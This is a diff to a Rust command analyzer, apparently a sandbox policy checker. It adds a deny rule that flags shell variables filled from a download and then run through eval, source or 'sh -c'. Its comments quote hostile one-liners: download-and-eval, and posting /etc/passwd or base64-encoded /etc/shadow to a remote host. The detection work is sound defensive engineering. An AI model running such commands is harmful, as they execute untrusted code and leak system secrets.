@@ -675,6 +675,42 @@ fn line_rules(a: &Analysis, parts: &mut [Judged]) {
             );
         }
     }
+    // `c=$(curl -s URL); eval "$c"`: a variable filled from a download, then run as code.
+    let mut fetched: Vec<&str> = Vec::new();
+    for &(x, y) in &a.feeds {
+        if tainted.get(x).copied().unwrap_or(false)
+            && let Some(cy) = a.commands.get(y)
+            && matches!(&cy.name, Name::Static(n) if n.is_empty())
+        {
+            fetched.extend(cy.assignments.iter().map(|v| v.name.as_str()));
+        }
+    }
+    if !fetched.is_empty() {
+        let uses = |w: &str| {
+            fetched
+                .iter()
+                .any(|v| w.contains(&format!("${v}")) || w.contains(&format!("${{{v}}}")))
+        };
+        for (i, c) in a.commands.iter().enumerate() {
+            let runs = match &c.name {
+                Name::Dynamic(n) => uses(n),
+                Name::Static(n) => {
+                    (matches!(n.as_str(), "eval" | "source" | ".")
+                        || (judge::is_shell(n) && c.args().any(|x| x == "-c")))
+                        && c.args().any(uses)
+                }
+            };
+            if runs {
+                deny(
+                    parts,
+                    i,
+                    "download.exec",
+                    "a variable filled from a download is run as code",
+                    run_caps,
+                );
+            }
+        }
+    }
     // `curl -d "$(cat /etc/passwd)" URL`, `whois -h host "$(base64 /etc/shadow)"`: a
     // substitution that reads system files or secrets, sent in a network client's arguments.
     for y in 0..n {
